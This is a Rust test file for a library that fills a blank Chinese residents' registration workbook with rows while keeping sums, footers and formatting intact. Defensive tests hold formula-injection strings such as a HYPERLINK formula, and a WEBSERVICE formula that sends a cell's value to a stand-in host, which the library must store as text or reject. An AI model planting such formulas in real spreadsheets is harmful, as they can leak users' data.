//! A department's blank workbook, filled: what goes in, and that all else stays.

#![expect(clippy::unwrap_used, reason = "a test stops where it fails")]

use std::collections::BTreeMap;
use std::io::{Cursor, Read, Write};

use intake::Table;
use intake::header::{Column, Mapping, PEOPLE_SHEET};
use intake::template::{MOST_BYTES, Room, Template, Value};
use proptest::prelude::*;
use rust_xlsxwriter::{Format, Formula, Workbook};

/// Made by openpyxl; `fixtures/blank.py` says how.
const BLANK: &[u8] = include_bytes!("fixtures/blank.xlsx");

fn blank() -> (Template, Mapping) {
    let template = Template::open(BLANK.to_vec()).unwrap();
    let mapping = template.look(&PEOPLE_SHEET).unwrap().mapping;
    (template, mapping)
}

fn parts(bytes: &[u8]) -> BTreeMap<String, Vec<u8>> {
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    (0..archive.len())
        .map(|index| {
            let mut file = archive.by_index(index).unwrap();
            let mut part = Vec::new();
            file.read_to_end(&mut part).unwrap();
            (file.name().unwrap().into_owned(), part)
        })
        .collect()
}

fn packed(parts: &BTreeMap<String, Vec<u8>>) -> Vec<u8> {
    let mut out = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, part) in parts {
        out.start_file(name, zip::write::SimpleFileOptions::default()).unwrap();
        out.write_all(part).unwrap();
    }
    out.finish().unwrap().into_inner()
}

fn rows_of(bytes: Vec<u8>) -> BTreeMap<u64, Vec<String>> {
    Table::from_bytes(bytes).unwrap().map(|row| row.unwrap()).map(|row| (row.number, row.cells)).collect()
}

/// A value for each column of the mapping, `name-3` of the third row and so on.
fn numbered(mapping: &Mapping, rows: u64) -> Vec<Vec<Value>> {
    let value = |column: Column, row| match column {
        Column::Serial => Value::Number(row),
        column => Value::Text(format!("{}-{row}", column.en())),
    };
    (1..=rows).map(|row| mapping.columns.iter().map(|(column, _)| value(*column, row)).collect()).collect()
}

#[test]
fn headings_over_two_rows_are_recognised_and_rows_go_below_them() {
    let (template, mapping) = blank();
    let look = template.look(&PEOPLE_SHEET).unwrap();
    let told: Vec<(&str, Option<&str>)> = (0..)
        .zip(&look.places)
        .map(|(place, found)| {
            let column = mapping.columns.iter().find(|(_, at)| *at == place).map(|(column, _)| column.en());
            (found.heading.as_str(), column)
        })
        .collect();
    assert_eq!(
        told,
        [
            ("序号", Some("serial")),
            ("姓名", Some("name")),
            ("性别", Some("sex")),
            ("身份证号码", Some("id_last_four")),
            ("楼栋", Some("building")),
            ("单元", Some("unit")),
            ("房号", Some("room")),
            ("联系电话", Some("phone")),
            ("是否低保", None),
        ]
    );
    assert_eq!(template.room(&mapping).unwrap(), Room { first: 5, until: Some(15), column: 0 });
}

#[test]
fn only_the_rows_change_and_every_other_part_stays_byte_for_byte() {
    let (template, mapping) = blank();
    let filled = template.fill(&mapping, &numbered(&mapping, 7)).unwrap();
    let (before, mut after) = (parts(BLANK), parts(&filled));
    let sheet = String::from_utf8(after.remove("xl/worksheets/sheet1.xml").unwrap()).unwrap();
    let workbook = String::from_utf8(after.remove("xl/workbook.xml").unwrap()).unwrap();
    for (name, part) in &after {
        assert_eq!(part, &before[name], "{name}");
    }
    assert_eq!(after.len() + 2, before.len());
    assert!(workbook.contains("fullCalcOnLoad=\"1\""));
    assert!(workbook.contains("'登记表'!$A$1:$I$16"));
    // What is around the rows is what was around them, to the byte.
    let was = String::from_utf8(before["xl/worksheets/sheet1.xml"].clone()).unwrap();
    let outside = |xml: &str| {
        let (head, rest) = xml.split_once("<row r=\"5\"").unwrap();
        let tail = &rest[rest.find("<row r=\"12\"").unwrap()..];
        (head.replace(" />", "/>"), tail.to_owned())
    };
    assert_eq!(outside(&sheet), outside(&was));
    for kept in [
        "=\"A1:I1\"",
        "dataValidation ",
        "conditionalFormatting ",
        "COUNTA(B5:B14)",
        "landscape",
        "legacyDrawing",
    ] {
        assert!(sheet.contains(kept), "{kept}");
    }
    let rows = rows_of(filled);
    assert_eq!(rows[&5][..4], ["1", "name-1", "sex-1", "id_last_four-1"]);
    assert_eq!(rows[&11][4..8], ["building-7", "unit-7", "room-7", "phone-7"]);
    assert_eq!(rows[&12], ["8"], "what was written before the rows stays below them");
    assert_eq!(rows[&15][0], "合计");
}

/// A sheet with ten rows for people, a sum and signatures below, and what else points there.
fn with_foot(change: impl FnOnce(&mut rust_xlsxwriter::Worksheet)) -> Template {
    let mut book = Workbook::new();
    let page = book.add_worksheet();
    page.set_name("登记表").unwrap();
    let boxed = Format::new().set_border(rust_xlsxwriter::FormatBorder::Thin);
    for (column, heading) in (0..).zip(["姓名", "电话", "备注", "岁数", "折算"]) {
        page.write_string(0, column, heading).unwrap();
    }
    for row in 1..=10 {
        for column in 0..4 {
            page.write_blank(row, column, &boxed).unwrap();
        }
        page.write_formula(row, 4, Formula::new(format!("=LEN(A{0})*$E$13", row + 1))).unwrap();
    }
    page.set_row_height(10, 30).unwrap();
    page.write_string(11, 0, "合计").unwrap();
    page.write_formula(11, 1, Formula::new("=COUNTA(A2:A11)")).unwrap();
    page.write_formula(11, 4, Formula::new("=SUM(E2:E11)")).unwrap();
    page.write_formula(12, 3, Formula::new("=B12/2")).unwrap();
    page.write_number(12, 4, 2).unwrap();
    page.merge_range(13, 0, 13, 3, "填表人：        审核人：", &boxed).unwrap();
    let rule = rust_xlsxwriter::DataValidation::new().allow_list_strings(&["是", "否"]).unwrap();
    page.add_data_validation(1, 2, 10, 2, &rule).unwrap();
    page.set_print_area(0, 0, 13, 4).unwrap();
    page.set_page_breaks(&[11]).unwrap();
    change(page);
    let other = book.add_worksheet();
    other.set_name("汇总").unwrap();
    other.write_formula(0, 0, Formula::new("=登记表!B12+B12")).unwrap();
    Template::open(book.save_to_buffer().unwrap()).unwrap()
}

fn sheet_of(filled: &[u8], number: u32) -> String {
    let name = format!("xl/worksheets/sheet{number}.xml");
    String::from_utf8(parts(filled).remove(&name).unwrap()).unwrap()
}

#[test]
fn a_foot_moves_down_with_its_sums_and_merged_cells_when_more_rows_come() {
    let template = with_foot(|_| {});
    let mapping = template.look(&PEOPLE_SHEET).unwrap().mapping;
    let mapping = Mapping { columns: mapping.columns[..2].to_vec(), ..mapping };
    assert_eq!(template.room(&mapping).unwrap(), Room { first: 2, until: Some(12), column: 0 });
    let filled = template.fill(&mapping, &numbered(&mapping, 25)).unwrap();

    // As a reader that knows nothing of how it was written sees it.
    let mut book: calamine::Xlsx<_> = calamine::Reader::new(Cursor::new(filled.clone())).unwrap();
    let values = calamine::Reader::worksheet_range(&mut book, "登记表").unwrap();
    let value = |row: u32, column: u32| values.get_value((row - 1, column)).map(ToString::to_string);
    assert_eq!((value(2, 0).as_deref(), value(26, 0).as_deref()), (Some("name-1"), Some("name-25")));
    assert_eq!(
        (value(27, 0).as_deref(), value(29, 0).as_deref()),
        (Some("合计"), Some("填表人：        审核人："))
    );
    let formulas = calamine::Reader::worksheet_formula(&mut book, "登记表").unwrap();
    let formula = |row: u32, column: u32| formulas.get_value((row - 1, column)).cloned().unwrap_or_default();
    assert_eq!(formula(27, 1), "COUNTA(A2:A26)");
    assert_eq!(formula(27, 4), "SUM(E2:E26)");
    assert_eq!(formula(28, 3), "B27/2");
    assert_eq!(
        (formula(2, 4), formula(26, 4)),
        ("LEN(A2)*$E$28".into(), "LEN(A26)*$E$28".into()),
        "each row calculates"
    );
    let summary = calamine::Reader::worksheet_formula(&mut book, "汇总").unwrap();
    assert_eq!(summary.get_value((0, 0)).unwrap(), "登记表!B27+B12");
    let merged: Vec<_> =
        book.merge_cells_by_sheet_name("登记表").unwrap().iter().map(|at| (at.start, at.end)).collect();
    assert_eq!(merged, [((28, 0), (28, 3))]);

    let sheet = sheet_of(&filled, 1);
    for kept in ["sqref=\"C2:C26\"", "<dimension ref=\"A1:E29\"/>", "<brk id=\"26\""] {
        assert!(sheet.contains(kept), "{kept}: {sheet}");
    }
    assert_eq!(sheet.matches("ht=\"30\"").count(), 16, "the rows look like the last one");
    let workbook = String::from_utf8(parts(&filled).remove("xl/workbook.xml").unwrap()).unwrap();
    assert!(workbook.contains("登记表!$A$1:$E$29") && workbook.contains("fullCalcOnLoad"), "{workbook}");
    // Where they fit nothing moves.
    let few = template.fill(&mapping, &numbered(&mapping, 10)).unwrap();
    assert_eq!(rows_of(few)[&12][0], "合计");
}

#[test]
fn what_a_spreadsheet_program_wrote_moves_too() {
    let (template, mapping) = blank();
    template.takes(&mapping, 11).unwrap();
    let filled = template.fill(&mapping, &numbered(&mapping, 13)).unwrap();
    let sheet = sheet_of(&filled, 1);
    for kept in ["COUNTA(B5:B17)", "sqref=\"I5:I17\"", "sqref=\"A5:A17\""] {
        assert!(sheet.contains(kept), "{kept}");
    }
    assert!(sheet_of(&filled, 2).contains("登记表!B18"));
    let (before, after) = (parts(BLANK), parts(&filled));
    assert!(String::from_utf8_lossy(&after["xl/workbook.xml"]).contains("'登记表'!$A$1:$I$19"));
    let written = ["xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"];
    for (name, part) in after.iter().filter(|(name, _)| !written.contains(&name.as_str())) {
        assert_eq!(part, &before[name], "{name}");
    }
    let rows = rows_of(filled);
    assert_eq!((rows[&17][1].as_str(), rows[&18][0].as_str()), ("name-13", "合计"));
}

#[test]
fn formulas_that_cells_share_are_read_for_each_of_them() {
    let (template, mapping) = blank();
    let mut parts = parts(&template.fill(&mapping, &[]).unwrap());
    let sheet = String::from_utf8(parts["xl/worksheets/sheet1.xml"].clone()).unwrap();
    let at = sheet.find("<c r=\"B15\"").unwrap();
    let end = at + sheet[at..].find("</c>").unwrap() + 4;
    let shared = "<c r=\"B15\"><f t=\"shared\" ref=\"B15:D15\" si=\"0\">SUM(B5:B14)</f><v>0</v></c><c r=\"C15\"><f t=\"shared\" si=\"0\"/></c>";
    let sheet = format!("{}{shared}{}", &sheet[..at], &sheet[end..]);
    parts.insert("xl/worksheets/sheet1.xml".to_owned(), sheet.into_bytes());
    parts.insert("xl/calcChain.xml".to_owned(), b"<calcChain><c r=\"B15\" i=\"1\"/></calcChain>".to_vec());
    let template = Template::open(packed(&parts)).unwrap();
    let filled = template.fill(&mapping, &numbered(&mapping, 12)).unwrap();
    let sheet = sheet_of(&filled, 1);
    assert!(
        sheet.contains("SUM(B5:B16)") && sheet.contains("SUM(C5:C16)") && !sheet.contains("t=\"shared\""),
        "{sheet}"
    );
    assert!(!self::parts(&filled).contains_key("xl/calcChain.xml"), "it would name cells that moved");
}

#[test]
fn what_cannot_be_moved_is_refused_with_its_cell_and_what_to_do() {
    let told = |change: fn(&mut rust_xlsxwriter::Worksheet)| {
        let template = with_foot(change);
        let mapping = template.look(&PEOPLE_SHEET).unwrap().mapping;
        let mapping = Mapping { columns: mapping.columns[..2].to_vec(), ..mapping };
        assert!(template.takes(&mapping, 10).is_ok(), "nothing has to move");
        let error = template.takes(&mapping, 11).unwrap_err();
        assert_eq!(error.code(), "template_full");
        (error.zh(), error.en())
    };
    let (zh, en) = told(|page| {
        page.write_formula(11, 2, Formula::new("=E2+E3+E4")).unwrap();
    });
    assert_eq!(
        zh,
        "行数放不下，下面的内容要往下移，但 C12 不能移：公式只引用了其中几行，插入行后算不全；请改成从第一行到最后一行的整段，如 \
         SUM(B5:B14)。或者在空白表里自己插入足够的空行，重新上传"
    );
    assert_eq!(
        en,
        "the rows do not fit above what stands below them, and the cell C12 cannot be moved down; its formula names only some of \
         the rows: let it name all from the first to the last, such as SUM(B5:B14); or insert enough empty rows in the blank \
         workbook yourself, and bring that"
    );
    let (zh, _) = told(|page| {
        page.write_formula(12, 2, Formula::new("=SUM(INDIRECT(\"E2:E11\"))")).unwrap();
    });
    assert!(zh.contains("C13") && zh.contains("INDIRECT"), "{zh}");
    let (zh, _) = told(|page| {
        page.insert_note(13, 0, &rust_xlsxwriter::Note::new("签字")).unwrap();
    });
    assert!(zh.contains("A14") && zh.contains("批注"), "{zh}");
    let (zh, _) = told(|page| {
        page.insert_shape(13, 1, &rust_xlsxwriter::Shape::textbox().set_text("章")).unwrap();
    });
    assert!(zh.contains("A12") && zh.contains("图形"), "{zh}");
}

#[test]
fn rows_beyond_those_of_the_sheet_look_like_its_last_one() {
    let mut book = Workbook::new();
    let page = book.add_worksheet();
    let bold = Format::new().set_bold().set_border(rust_xlsxwriter::FormatBorder::Thin);
    for (column, heading) in (0..).zip(["姓名", "电话", "备注", "岁数"]) {
        page.write_string(0, column, heading).unwrap();
        page.write_blank(1, column, &bold).unwrap();
    }
    page.set_row_height(1, 30).unwrap();
    page.write_formula(1, 4, Formula::new("=LEN(A2)")).unwrap();
    let template = Template::open(book.save_to_buffer().unwrap()).unwrap();
    let mapping = template.look(&PEOPLE_SHEET).unwrap().mapping;
    assert_eq!(template.room(&mapping).unwrap(), Room { first: 2, until: None, column: 0 });
    let filled = template.fill(&mapping, &numbered(&mapping, 300)).unwrap();
    let sheet = String::from_utf8(parts(&filled).remove("xl/worksheets/sheet1.xml").unwrap()).unwrap();
    assert!(sheet.contains("<dimension ref=\"A1:E301\"/>"), "{}", &sheet[..400]);
    let style = |row: u32, column: &str| {
        let at = sheet.find(&format!("<c r=\"{column}{row}\"")).unwrap();
        sheet[at..].split(['>', '/']).next().unwrap().split("s=\"").nth(1).unwrap().split('"').next().unwrap()
    };
    assert_eq!(style(301, "C"), style(2, "C"), "a column that is not filled has its border too");
    assert_eq!(style(301, "A"), style(2, "A"));
    assert_eq!(sheet.matches("ht=\"30\"").count(), 300);
    assert!(sheet.contains("LEN(A2)"));
    assert_eq!(rows_of(filled)[&301][..2], ["name-300", "phone-300"]);
}

#[test]
fn what_begins_like_a_formula_is_a_text() {
    let (template, mapping) = blank();
    let mapping = Mapping { columns: vec![(Column::Name, 1)], ..mapping };
    let texts =
        ["=HYPERLINK(\"http://a\")", "+1", "-1", "@SUM(1)", "<b>&\"", " a ", "00123", "\u{1}\u{FFFE}王"];
    let rows: Vec<Vec<Value>> = texts.iter().map(|text| vec![Value::text(*text)]).collect();
    let filled = template.fill(&mapping, &rows).unwrap();
    let sheet = String::from_utf8(parts(&filled).remove("xl/worksheets/sheet1.xml").unwrap()).unwrap();
    assert_eq!(sheet.matches("<f>").count(), 1, "only the template's own");
    let names: Vec<String> = rows_of(filled).range(5..13).map(|(_, cells)| cells[1].clone()).collect();
    assert_eq!(names[..7], texts[..7]);
    assert_eq!(names[7], "王");
}

#[test]
fn a_wrong_file_is_told_by_what_is_wrong_with_it() {
    let code = |bytes: Vec<u8>| Template::open(bytes).map_err(|error| error.code()).unwrap_err();
    let mut torn = BLANK.to_vec();
    torn.truncate(4000);
    let mut rotten = BLANK.to_vec();
    let middle = rotten.len() / 3;
    rotten[middle..middle + 60].fill(7);
    let with = |name: &str, part: &[u8]| {
        let mut parts = parts(BLANK);
        parts.insert(name.to_owned(), part.to_vec());
        packed(&parts)
    };
    let asking = br#"<worksheet><sheetData><row><c><f>_xlfn.WEBSERVICE("http://a/?"&amp;B5)</f></c></row></sheetData></worksheet>"#;
    for (expected, bytes) in [
        ("not_xlsx", "姓名,电话\n".as_bytes().to_vec()),
        ("not_xlsx", vec![0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0, 0]),
        ("not_xlsx", packed(&BTreeMap::from([("word/document.xml".to_owned(), b"<a/>".to_vec())]))),
        ("template_damaged", torn),
        ("template_damaged", rotten),
        ("template_too_large", vec![b'P'; MOST_BYTES + 1]),
        ("template_too_large", with("xl/media/image1.png", &vec![0; 49 << 20])),
        ("template_active", with("xl/vbaProject.bin", b"a")),
        ("template_active", with("xl/externalLinks/externalLink1.xml", b"<a/>")),
        ("template_active", with("xl/worksheets/sheet9.xml", asking)),
    ] {
        assert_eq!(code(bytes), expected);
    }
    let error = Template::open(vec![0xD0, 0xCF, 0x11, 0xE0]).unwrap_err();
    assert!(error.zh().contains("另存为 .xlsx") && error.en().contains("save it as .xlsx"));
}

#[test]
fn columns_that_no_sheet_has_are_refused() {
    let (template, mapping) = blank();
    for wrong in [
        Mapping { columns: Vec::new(), ..mapping.clone() },
        Mapping { columns: vec![(Column::Name, 1), (Column::Sex, 1)], ..mapping.clone() },
        Mapping { columns: vec![(Column::Name, 5000)], ..mapping.clone() },
        Mapping { sheet: 7, ..mapping.clone() },
    ] {
        assert_eq!(template.room(&wrong).unwrap_err().code(), "columns");
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]

    /// Whatever is filled in is read back from the same cells, by a reader that knows nothing of how it was written.
    #[test]
    fn what_goes_in_comes_out(texts in proptest::collection::vec("[^\u{0}-\u{1f}\u{fffd}-\u{ffff}]{0,12}", 0..10)) {
        let (template, mapping) = blank();
        let mapping = Mapping { columns: vec![(Column::Name, 1)], ..mapping };
        let rows: Vec<Vec<Value>> = texts.iter().map(|text| vec![Value::text(text.clone())]).collect();
        let read = rows_of(template.fill(&mapping, &rows).unwrap());
        for (number, text) in (5..).zip(&texts) {
            let cell = read.get(&number).and_then(|cells| cells.get(1)).cloned().unwrap_or_default();
            prop_assert_eq!(cell.trim(), text.trim());
        }
    }
}
